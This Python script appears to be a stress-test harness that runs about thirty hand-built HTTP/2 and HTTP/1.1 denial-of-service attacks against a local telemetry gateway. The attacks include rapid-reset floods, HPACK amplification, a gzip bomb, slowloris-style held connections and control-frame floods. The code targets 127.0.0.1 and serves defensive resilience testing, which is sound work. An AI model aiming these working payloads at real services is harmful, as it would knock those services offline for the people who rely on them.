"""Clients that cost as much as they can: `hostile_client.py ATTACK GRPC_PORT HTTP_PORT SECONDS CONNECTIONS`.

One process, one thread, connections that are not waited for. Prints one JSON object: bytes sent, connections made, and
how many of them the gateway ended. `ATTACKS` says what each attack is; frames and header sections are written by hand.
"""

import functools
import gzip
import json
import random
import selectors
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
EXPORT = "/opentelemetry.proto.collector.trace.v1.TraceService/Export"
# A request without a span.
EMPTY = b"\0\0\0\0\0"


def frame(kind, flags, stream, body=b""):
    return struct.pack(">I", len(body))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + body


def number(value, bits, top=0):
    """RFC 7541 section 5.1."""
    largest = (1 << bits) - 1
    if value < largest:
        return bytes([top | value])
    out, value = [top | largest], value - largest
    while value >= 128:
        out.append(value & 127 | 128)
        value >>= 7
    return bytes(out + [value])


def field(name, value, indexed=False):
    name, value = name.encode(), value if isinstance(value, bytes) else value.encode()
    start = b"\x40" if indexed else b"\0"
    return start + number(len(name), 7) + name + number(len(value), 7) + value


def section(path=EXPORT, kind="application/grpc", extra=b"", indexed=False):
    return b"\x83\x86" + b"".join(
        field(name, value, indexed)
        for name, value in ((":path", path), (":authority", "h"), ("content-type", kind))
    ) + extra


# The three fields of `section(indexed=True)`, from the dynamic table.
AGAIN = b"\x83\x86\xc0\xbf\xbe"


def greeting(settings=b""):
    return PREFACE + frame(4, 0, 0, settings) + frame(4, 1, 0)


@functools.lru_cache(maxsize=100)
def _blob(make, stream, count):
    return b"".join(make(stream + 2 * index) for index in range(count))


def streams(make, count=2000):
    """What `make` gives for one stream after the other, in blobs of `count`."""
    for stream in range(1, 1 << 30, 2 * count):
        yield _blob(make, stream, count)


def repeat(blob):
    while True:
        yield blob


def once(blob):
    yield blob


def http1_head(extra="", method="POST", path="/v1/traces"):
    return f"{method} {path} HTTP/1.1\r\nHost: h\r\nContent-Type: application/x-protobuf\r\n{extra}\r\n".encode()


class Attack:
    """`port`: grpc or http; `first`: what a connection begins with; `more`: what follows; `reads`: whether answers are
    read; `ends`: whether the client ends its side then; `reconnects`: seconds until the next one takes its place."""

    def __init__(self, what, port, first, more=lambda: iter(()), reads=True, ends=False, reconnects=0.2, settings=None):
        self.what, self.port, self.first, self.more = what, port, first, more
        self.reads, self.ends, self.reconnects, self.settings = reads, ends, reconnects, settings


def _flood(what, blob):
    opened = greeting() + frame(1, 4, 1, section())
    return Attack(what, "grpc", opened, lambda: repeat(blob))


def _requests(what, make, reads=True, settings=b"", port="grpc"):
    return Attack(what, port, greeting(settings), lambda: streams(make), reads)


def _held(what, make, count):
    return Attack(what, "grpc", greeting(), lambda: once(_blob(make, 1, count)))


_ONE_404 = b"GET /a HTTP/1.1\r\nHost: a\r\n\r\n"
_TABLE = section(extra=b"".join(field(f"x{n}", b"v" * 900, True) for n in range(4)), indexed=True)
# Its fields, the large ones four times.
_FROM_TABLE = AGAIN[:2] + bytes([0x80 | 68, 0x80 | 67, 0x80 | 66]) + b"\xc1\xc0\xbf\xbe" * 4
_NO_WINDOW = struct.pack(">HI", 4, 0)
_BIG_HEAD = http1_head("X-Big: " + "a" * 60_000 + "\r\nContent-Length: 0\r\n")
_RESOURCES = b"\n\0" * 50_000
_ZEROS = gzip.compress(bytes(18 << 20), 9)

ATTACKS = {
    # Memory.
    "held-bodies": _held(
        "4 000 streams, 64 KiB announced, a byte sent",
        lambda s: frame(1, 4, s, section()) + frame(0, 0, s, b"\0\0\1\0\0\n"), 4000),
    "open-streams": _held("10 000 streams that never go on", lambda s: frame(1, 4, s, section()), 10_000),
    "held-megabytes": Attack(
        "a megabyte of 20, then nothing", "http", http1_head(f"Content-Length: {20 << 20}\r\n") + bytes(1 << 20)),
    "held-chunks": Attack(
        "a body without a length, then nothing", "http",
        http1_head("Transfer-Encoding: chunked\r\n") + b"8000\r\n" + bytes(0x8000) + b"\r\n"),
    "held-heads": Attack("60 KB of a header, then nothing", "http", _BIG_HEAD[:60_000]),
    "split-heads": Attack(
        "reads that end inside a header", "http", _ONE_404[:10],
        lambda: repeat(_ONE_404[10:] + _ONE_404 * 2000 + _ONE_404[:10])),
    "unread-404": Attack(
        "answers over HTTP/1.1 that nobody reads", "http", b"", lambda: repeat(_ONE_404 * 4000), reads=False),
    "unread-http2": _requests(
        "answers over HTTP/2 that nobody reads", lambda s: frame(1, 5, s, section("/a")), reads=False),
    "no-window": _requests(
        "answers that no window lets through", lambda s: frame(1, 5, s, section("/a", "text/plain")),
        settings=_NO_WINDOW, port="http"),
    "many-fields": Attack(
        "16 000 fields in a header", "http", b"",
        lambda: repeat(http1_head("a:\r\n" * 16_000, "GET", "/a"))),
    "kept-heads": Attack("60 KB of header fields that stay with the data", "http", b"", lambda: repeat(_BIG_HEAD)),
    "kept-hpack": Attack(
        "the same from a few bytes of HPACK", "grpc", greeting() + frame(1, 4, 1, _TABLE) + frame(0, 1, 1, EMPTY),
        lambda: streams(
            lambda s: frame(1, 4, s + 2, _FROM_TABLE) + frame(0, 1, s + 2, EMPTY))),
    "held-hpack": Attack(
        "the same, streams that never go on", "grpc", greeting() + frame(1, 4, 1, _TABLE) + frame(0, 1, 1, EMPTY),
        lambda: streams(lambda s: frame(1, 4, s + 2, _FROM_TABLE))),
    "unread-accepted": Attack(
        "answers to requests that were taken that nobody reads", "http", b"",
        lambda: repeat(http1_head("Content-Length: 0\r\n") * 1000), reads=False),
    "empty-resources": Attack(
        "requests of 50 000 resources without a span", "http", b"",
        lambda: repeat(http1_head(f"Content-Length: {len(_RESOURCES)}\r\n") + _RESOURCES)),
    "half-closed": Attack(
        "a window of 0, a request, and the end of the client's side", "grpc",
        greeting(_NO_WINDOW) + frame(1, 4, 1, section()) + frame(0, 1, 1, EMPTY), ends=True),
    "inflated-zeros": _requests(
        "18 MB of zeros in 18 KB", lambda s: frame(1, 4, s, section("/v1/traces", "application/x-protobuf", field("content-encoding", "gzip")))
        + b"".join(frame(0, 0, s, _ZEROS[at:at + 16384]) for at in range(0, len(_ZEROS), 16384)) + frame(0, 1, s),
        port="http"),
    # Floods.
    "empty-data": _flood("empty DATA", frame(0, 0, 1) * 4000),
    "priority": _flood("PRIORITY", frame(2, 0, 1, b"\0\0\0\0\1") * 3000),
    "window-update": _flood("WINDOW_UPDATE by 1", frame(8, 0, 0, b"\0\0\0\1") * 3000),
    "settings": _flood("SETTINGS", frame(4, 0, 0, struct.pack(">HI", 4, 65_535)) * 3000),
    "ping": _flood("PING", frame(6, 0, 0, b"12345678") * 3000),
    "unknown": _flood("frames of an unknown type", frame(0x77, 0, 0, b"x") * 3000),
    "heavy-heads": Attack(
        "header sections of a megabyte, a byte a field", "grpc", greeting() + frame(1, 4, 1, _TABLE),
        lambda: streams(lambda s: frame(1, 5, s + 2, AGAIN + b"\xbe" * 900_000), 1)),
    "rapid-resets": _requests(
        "streams that are reset at once", lambda s: frame(1, 4, s, section()) + frame(3, 0, s, b"\0\0\0\x08")),
    "made-you-resets": _requests(
        "streams that the gateway has to reset",
        lambda s: frame(1, 4, s, section()) + frame(8, 0, s, b"\x7f\xff\xff\xff")),
    "tiny-chunks": Attack(
        "chunks of a byte", "http", http1_head("Transfer-Encoding: chunked\r\n"), lambda: repeat(b"1\r\na\r\n" * 8000)),
    "trickle": _flood("DATA of a byte", frame(0, 0, 1, b"\0") * 3000),
    "connection-storm": Attack(
        "connections that end at once", "grpc", greeting() + frame(1, 4, 1, section()), ends=True, reconnects=0),
}


class Connection:
    def __init__(self, attack, port, selector):
        self.attack, self.selector = attack, selector
        self.socket = socket.socket()
        self.socket.setblocking(False)
        self.socket.connect_ex(("127.0.0.1", port))
        self.left, self.more, self.isDone = memoryview(attack.first), attack.more(), False
        selector.register(self.socket, selectors.EVENT_WRITE | selectors.EVENT_READ * attack.reads, self)

    def close(self):
        self.selector.unregister(self.socket)
        self.socket.close()

    def write(self):
        """Bytes sent; raises OSError when the connection has ended."""
        if not self.left:
            self.left = memoryview(next(self.more, b""))
            if not self.left:
                self.isDone = True
                if self.attack.ends:
                    self.socket.shutdown(socket.SHUT_WR)
                self.selector.modify(self.socket, selectors.EVENT_READ, self)
                return 0
        sent = self.socket.send(self.left[: 1 << 18])
        self.left = self.left[sent:]
        return sent

    def read(self):
        if not self.attack.reads and not self.isDone:
            return
        if not self.socket.recv(1 << 18):
            raise ConnectionResetError


def run(name, grpc_port, http_port, seconds, count):
    attack = ATTACKS[name]
    port = grpc_port if attack.port == "grpc" else http_port
    selector = selectors.DefaultSelector()
    sent = made = ended = 0
    due = [0.0] * count
    end = time.monotonic() + seconds
    while (now := time.monotonic()) < end:
        while due and due[-1] <= now:
            due.pop()
            Connection(attack, port, selector)
            made += 1
        for key, events in selector.select(0.05):
            connection = key.data
            try:
                if events & selectors.EVENT_WRITE:
                    sent += connection.write()
                if events & selectors.EVENT_READ:
                    connection.read()
            except BlockingIOError:
                pass
            except OSError:
                ended += 1
                connection.close()
                due.append(now + attack.reconnects * random.random())
                due.sort(reverse=True)
    print(json.dumps({"sent_mib": round(sent / 1048576, 1), "connections": made, "ended": ended}))


if __name__ == "__main__":
    run(sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4]), int(sys.argv[5]))
